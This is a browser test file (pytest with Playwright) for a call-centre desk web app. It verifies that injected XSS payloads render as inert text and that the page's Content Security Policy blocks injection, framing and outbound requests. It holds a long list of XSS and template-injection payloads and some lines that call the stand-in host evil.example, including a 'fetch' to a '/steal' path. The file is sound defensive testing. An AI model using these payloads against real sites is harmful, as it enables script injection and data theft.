"""Nothing another system holds can run here, nothing leaves this host, and the page's own policy would stop it if it tried."""

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.async_api import Page, expect
from tests.browser import recorded
from tests.browser.conftest import Desk

pytestmark = pytest.mark.browser

ANSWERED = {"mode": "full", "call": recorded.call("answered", answered_at=recorded.ago(seconds=5))}
PAYLOADS = (
    "<script>window.hit=1</script>",
    "<img src=x onerror=window.hit=1>",
    "<svg onload=window.hit=1>",
    "<svg><script>window.hit=1</script></svg>",
    "<svg><animate onbegin=window.hit=1 attributeName=x dur=1s>",
    "<iframe src=javascript:window.hit=1>",
    "<iframe srcdoc='<script>parent.hit=1</script>'>",
    "<body onload=window.hit=1>",
    "<details open ontoggle=window.hit=1>",
    "<input autofocus onfocus=window.hit=1>",
    "<video><source onerror=window.hit=1>",
    "<audio src=x onerror=window.hit=1>",
    "<marquee onstart=window.hit=1>",
    "<object data=javascript:window.hit=1>",
    "<embed src=javascript:window.hit=1>",
    "<a href=javascript:window.hit=1>x</a>",
    "<form action=javascript:window.hit=1><input type=submit>",
    "<button formaction=javascript:window.hit=1>x</button>",
    "<math><mi xlink:href=javascript:window.hit=1>x</mi></math>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<img src=https://evil.example/pixel>",
    "<template><script>window.hit=1</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=window.hit=1>'>",
    "<!--><img src=x onerror=window.hit=1>-->",
    "<![CDATA[<img src=x onerror=window.hit=1>]]>",
    '"><img src=x onerror=window.hit=1>',
    "'><img src=x onerror=window.hit=1>",
    '" onmouseover=window.hit=1 x="',
    "' onfocus=window.hit=1 autofocus x='",
    "` onmouseover=window.hit=1",
    "</textarea><script>window.hit=1</script>",
    "</title><script>window.hit=1</script>",
    "</style><script>window.hit=1</script>",
    "</script><script>window.hit=1</script>",
    "javascript:window.hit=1",
    "JaVaScRiPt:window.hit=1",
    " javascript:window.hit=1",
    "java\tscript:window.hit=1",
    "data:text/html,<script>window.hit=1</script>",
    "vbscript:msgbox(1)",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "//evil.example/x",
    "http://evil.example/x",
    "https://user:secret@evil.example/x",
    "{{constructor.constructor('window.hit=1')()}}",
    "${window.hit=1}",
    "#{window.hit=1}",
    "<%= window.hit=1 %>",
    "{name}",
    "{count} people share this number",
    "&lt;img src=x onerror=window.hit=1&gt;",
    "&#60;img src=x onerror=window.hit=1&#62;",
    r"\u003cimg src=x onerror=window.hit=1\u003e",
    "＜img src=x onerror=window.hit=1＞",
    "\u202e<img src=x onerror=window.hit=1>\u2066",
    "__proto__",
    "constructor",
    "toString",
)
FOREIGN_ELEMENTS = """() => [...document.querySelectorAll(
    'body script, img, iframe, object, embed, video, audio, base, style, meta[http-equiv], link[rel=prefetch], math, template'
)].map((node) => node.outerHTML).concat(
    [...document.querySelectorAll('body *')].filter((node) => [...node.attributes].some(({ name }) => name.startsWith('on')))
        .map((node) => node.outerHTML)
)"""
UNTIL_THERE_ARE_COMPLAINTS = """() => new Promise((done) => {
    const look = (left) => (window.policyComplaints.length || !left ? done() : setTimeout(() => look(left - 1), 10));
    look(300);
})"""
OPEN_LINKS = (
    "() => [...document.querySelectorAll('main a[href]')].map((link) => [link.protocol, link.host, link.rel, link.target])"
)


def poisoned(value: Any, poison: Iterator[str]) -> Any:  # noqa: ANN401 - any JSON
    """The same JSON with a payload in place of every text but those whose values the contract fixes."""
    if isinstance(value, dict):
        return {key: one if key in FIXED else poisoned(one, poison) for key, one in value.items()}
    if isinstance(value, list):
        return [poisoned(one, poison) for one in value]
    return next(poison) if isinstance(value, str) else value


FIXED = frozenset({"pop_id", "state", "mode", "status", "direction", "at", "as_of", "kind", "started_at", "answered_at", "tier"})


def endless(start: int) -> Iterator[str]:
    position = start
    while True:
        yield PAYLOADS[position % len(PAYLOADS)]
        position += 1


async def policy_complaints(page: Page) -> list[str]:
    found: list[str] = await page.evaluate("window.policyComplaints")
    return found


@pytest.mark.parametrize("situation", [recorded.pop, recorded.shared, recorded.unknown])
@pytest.mark.parametrize("with_policy", [True, False], ids=["with-policy", "policy-off"])
async def test_no_field_of_any_system_becomes_markup(desk: Desk, situation: recorded.Situation, with_policy: bool) -> None:  # noqa: FBT001 - a case
    context = await desk.context(bypass_csp=not with_policy)
    page = await desk.ready(context)
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: dialogs.append(dialog.message))
    for start in range(0, len(PAYLOADS), 7):
        pop = poisoned(situation(f"{desk.agent}.{start}", **ANSWERED), endless(start))
        pop["blocks"] = {
            PAYLOADS[start]: recorded.block(PAYLOADS[start + 1], [{"<img src=x onerror=window.hit=1>": PAYLOADS[2]}]),
            **pop["blocks"],
        }
        await desk.show(pop)
        card = page.locator(".rail-live .call").nth(start // 7)
        await card.click()
        await expect(page.locator(".card:visible")).to_have_attribute("data-view", "open")
    assert await page.evaluate("window.hit") is None
    assert dialogs == []
    assert await page.evaluate(FOREIGN_ELEMENTS) == []
    for protocol, _host, rel, target in await page.evaluate(OPEN_LINKS):
        assert (protocol, rel, target) == ("https:", "noopener noreferrer", "_blank")
    assert desk.hosts == {desk.server.base.removeprefix("http://")}
    assert desk.complaints == []


async def test_payloads_are_shown_as_the_text_they_are(desk: Desk) -> None:
    page = await desk.ready()
    pop = recorded.pop(f"{desk.agent}.p1", **ANSWERED)
    pop["customer"].update(name=PAYLOADS[0], note=PAYLOADS[1], tags=[PAYLOADS[2]])
    pop["customer"]["links"] = [
        {"system": "crm", "url": "javascript:window.hit=1"},
        {"system": "erp", "url": "http://evil.example/"},
    ]
    await desk.show(pop)
    await expect(page.locator(".caller-name")).to_have_text(PAYLOADS[0])
    await expect(page.locator('[data-fact="note"] dd')).to_have_text(PAYLOADS[1])
    await expect(page.locator(".tag")).to_have_text(PAYLOADS[2])
    await expect(page.locator(".profile-links li")).to_have_text(["Open in crm", "Open in erp"])
    assert await page.locator(".profile-links a").count() == 0


async def test_a_link_on_this_machine_works_for_the_demo_only(desk: Desk) -> None:
    page = await desk.ready()
    pop = recorded.pop(f"{desk.agent}.p1", **ANSWERED)
    pop["customer"]["links"] = [{"system": "crm", "url": "http://127.0.0.1:9100/c/1"}]
    await desk.show(pop)
    await expect(page.locator(".profile-links a")).to_have_attribute("href", "http://127.0.0.1:9100/c/1")


async def test_a_normal_day_breaks_no_rule_of_the_policy(desk: Desk) -> None:
    context = await desk.context()
    await context.add_init_script(
        "window.policyComplaints = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.policyComplaints.push(event.violatedDirective + ' ' + event.blockedURI))"
    )
    page = await desk.ready(context)
    await desk.show(recorded.pop(f"{desk.agent}.p1", **ANSWERED))
    await desk.show(recorded.shared(f"{desk.agent}.p2"))
    await page.get_by_role("button", name="Why this?").first.click()
    await page.get_by_role("button", name="Settings").click()
    await page.get_by_role("button", name="中文").click()
    await expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
    await page.keyboard.press("Escape")
    await desk.withdraw(f"{desk.agent}.p1", "call_over")
    await expect(page.locator(".strip-text").first).to_be_visible()
    assert await policy_complaints(page) == []
    assert desk.complaints == []
    assert desk.hosts == {desk.server.base.removeprefix("http://")}


@pytest.mark.parametrize(
    ("attempt", "directive"),
    [
        ("document.body.append(Object.assign(document.createElement('img'), {src: 'https://evil.example/p'}))", "img-src"),
        ("fetch('https://evil.example/steal').catch(() => 0)", "connect-src"),
        ("document.body.setAttribute('style', 'color: red')", "style-src-attr"),
        ("document.head.append(Object.assign(document.createElement('base'), {href: 'https://evil.example/'}))", "base-uri"),
        ("try { document.body.innerHTML = '<b>x</b>' } catch { 0 }", "require-trusted-types-for"),
        (
            "document.head.append(Object.assign(document.createElement('link'), {rel: 'modulepreload', href: 'https://evil.example/x.js'}))",
            "script-src-elem",
        ),
        (
            "document.body.append(document.createElement('iframe')); document.querySelector('iframe').src = 'https://evil.example/'",
            "frame-src",
        ),
    ],
)
async def test_the_policy_stops_what_our_own_care_would_miss(desk: Desk, attempt: str, directive: str) -> None:
    context = await desk.context()
    await context.add_init_script(
        "window.policyComplaints = []; document.addEventListener('securitypolicyviolation',"
        " (event) => window.policyComplaints.push(event.violatedDirective))"
    )
    page = await desk.ready(context)
    await page.evaluate(f"() => {{ {attempt} }}")
    await page.evaluate(UNTIL_THERE_ARE_COMPLAINTS)
    assert directive in await policy_complaints(page)


async def test_a_page_of_another_site_may_not_frame_the_desk(desk: Desk) -> None:
    page = await desk.open(path="/desk/sign-in")
    answer = await page.request.get(f"{desk.server.base}/desk?agent={desk.agent}")
    policy = answer.headers["content-security-policy"]
    assert "frame-ancestors 'none'" in policy
    assert "default-src 'none'" in policy
    assert "unsafe" not in policy
    assert answer.headers["cache-control"] == "no-store"
    assert answer.headers["referrer-policy"] == "no-referrer"
